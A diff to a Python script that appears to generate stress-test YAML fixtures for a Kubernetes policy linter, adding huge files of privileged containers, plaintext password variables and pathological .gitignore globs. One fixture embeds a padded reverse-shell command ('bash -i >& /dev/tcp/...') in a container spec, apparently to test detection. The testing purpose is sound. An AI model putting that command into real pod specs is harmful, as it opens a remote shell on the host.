@@ -52,6 +52,23 @@ def large():
         file.truncate(300 << 20)
 
 
+def wide():
+    """Much of what rules look at, and of what they look at it with."""
+    head = "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n"
+    one = '  - {name: c%d, image: "x:1", securityContext: {privileged: true}}\n'
+    write("containers.yaml", head + "".join(one % i for i in range(20000)))
+    write("comments.yaml", head + "".join("  # profgen:ignore PG999 -- x\n" + one % i for i in range(9000)))
+    write("environment.yaml", head + "  - name: c\n    image: x\n    env:\n"
+          + "".join("    - {name: PASSWORD_%d, value: s3cr3t%d}\n" % (i, i) for i in range(100000)))
+    write("padded.yaml", head + '  - {name: c, image: x, command: [sh, -c, "%sbash -i >& /dev/tcp/192.0.2.1/80 0>&1"]}\n'
+          % (": ;" * 100000))
+    os.makedirs("ignored/" + "d/" * 30)
+    for at in ("ignored/", "ignored/" + "d/" * 30):
+        write(at + ".gitignore", "**/a*a*/**/*a*a*a*b\n" * 50000)
+    for i in range(300):
+        write("ignored/" + "d/" * 30 + "a" * 200 + "%d.yaml" % i, "a: 1\n")
+
+
 def deep():
     write("deep-flow.yaml", "a: " + "[" * DEEP + "]" * DEEP + "\n")
     write("deep-maps.yaml", "a: " + "{a: " * DEEP + "1" + "}" * DEEP + "\n")
@@ -118,5 +135,5 @@ def compose():
 
 
 os.chdir(sys.argv[1])
-for part in (bombs, large, deep, encodings, names, tree, compose):
+for part in (bombs, large, wide, deep, encodings, names, tree, compose):
     part()
